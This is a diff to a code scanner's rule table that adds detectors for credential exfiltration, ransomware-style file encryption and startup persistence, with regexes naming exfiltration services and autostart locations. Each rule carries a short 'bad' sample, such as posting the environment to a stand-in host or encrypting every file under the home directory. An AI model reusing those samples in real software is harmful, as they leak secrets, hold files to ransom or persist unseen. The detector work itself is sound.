@@ -49,7 +49,15 @@ export const ABUSE: readonly Rule[] = [
     message: '{} sends the environment or a sensitive file away',
     why: 'Credentials leave the machine.',
     remedy: 'Remove it.',
-    match: { call: PY_SENDS, when: [{ arg: 'any', is: 'secret' }] },
+    match: [
+      { call: PY_SENDS, when: [{ arg: 'any', is: 'secret' }] },
+      {
+        together: [
+          ['credential-file', 'cloud-metadata'],
+          ['py-request', 'py-open-url', 'py-connect', 'py-request-without-timeout'],
+        ],
+      },
+    ],
     bad: 'import os, requests\nrequests.post("http://x.example", data=dict(os.environ), timeout=1)',
     good: 'import requests\nrequests.post("http://x.example", data={"a": 1}, timeout=1)',
   },
@@ -64,6 +72,12 @@ export const ABUSE: readonly Rule[] = [
     why: 'Credentials leave the machine.',
     remedy: 'Remove it.',
     match: [
+      {
+        together: [
+          ['credential-file', 'cloud-metadata'],
+          ['js-request', 'js-socket'],
+        ],
+      },
       { call: JS_SENDS, when: [{ arg: ['body', 'data', 'json', 1, 0], is: 'secret' }] },
       {
         call: ['dns.{lookup,resolve,resolve4,resolveTxt}', 'dns.promises.{lookup,resolve}'],
@@ -87,16 +101,49 @@ export const ABUSE: readonly Rule[] = [
     why: 'Such services take whatever is sent, from anybody.',
     remedy: 'Send data to a service of your own.',
     match: {
-      text: /(?:webhook\.site|requestbin|pipedream\.net|discord(?:app)?\.com\/api\/webhooks\/|api\.telegram\.org\/bot|pastebin\.com\/(?:raw|api)|transfer\.sh|\.ngrok(?:-free)?\.(?:io|app)|burpcollaborator|\.oast(?:ify)?\.|interact\.sh|169\.254\.169\.254|metadata\.google\.internal)/i,
+      text: /(?:webhook\.site|requestbin|pipedream\.net|discord(?:app)?\.com\/api\/webhooks\/|api\.telegram\.org\/bot|pastebin\.com\/(?:raw|api)|transfer\.sh|\.ngrok(?:-free)?\.(?:io|app)|burpcollaborator|\.oast(?:ify)?\.|interact\.sh)/i,
     },
     bad: 'url = "https://webhook.site/abc"',
     good: 'url = "https://example.org/abc"',
   },
   {
+    id: 'ransom',
+    languages: BOTH,
+    severity: 'critical',
+    confidence: 'medium',
+    category: 'abuse',
+    cwe: 506,
+    message: "the user's files are visited and encrypted",
+    why: 'It is how files are held to ransom.',
+    remedy: 'Encrypt the files that are named, and no others.',
+    match: [
+      { together: [['walk-root'], ['encryption']] },
+      { together: [['home-directory'], ['encryption'], ['js-path-from-outside']] },
+    ],
+    bad: 'import os\nfrom cryptography.fernet import Fernet\nfor d, _, names in os.walk(os.path.expanduser("~")):\n    for n in names: Fernet(key).encrypt(read(d, n))',
+    good: 'from cryptography.fernet import Fernet\nprint(Fernet(key).encrypt(b"x"))',
+  },
+  {
+    id: 'persistence',
+    languages: BOTH,
+    severity: 'high',
+    confidence: 'medium',
+    category: 'abuse',
+    cwe: 506,
+    message: '{} is run at every start or login',
+    why: 'What is written there stays on the machine and runs again.',
+    remedy: 'Let an installer do it, where the user sees it.',
+    match: {
+      text: /(?:^|[/\\])\.(?:bashrc|zshrc|bash_profile|zprofile)$|authorized_keys|\bLaunch(?:Agents|Daemons)\b|CurrentVersion\\{1,2}Run|^\/etc\/(?:cron|systemd|init\.d|rc\.local|profile\.d|ld\.so\.preload)|\/var\/spool\/cron|Start Menu\\{1,2}Programs\\{1,2}Startup|\.config\/autostart|\bcrontab\s+-|\bsystemctl\s+enable\b|\bschtasks\s+\/create/i,
+    },
+    bad: 'import os\nopen(os.path.expanduser("~/.bashrc"), "a")',
+    good: 'open("bashrc.txt", "a")',
+  },
+  {
     id: 'key-logging',
     languages: ['python'],
     severity: 'high',
-    confidence: 'medium',
+    confidence: 'high',
     category: 'abuse',
     cwe: 506,
     message: '{} records the keyboard, the screen or the clipboard',
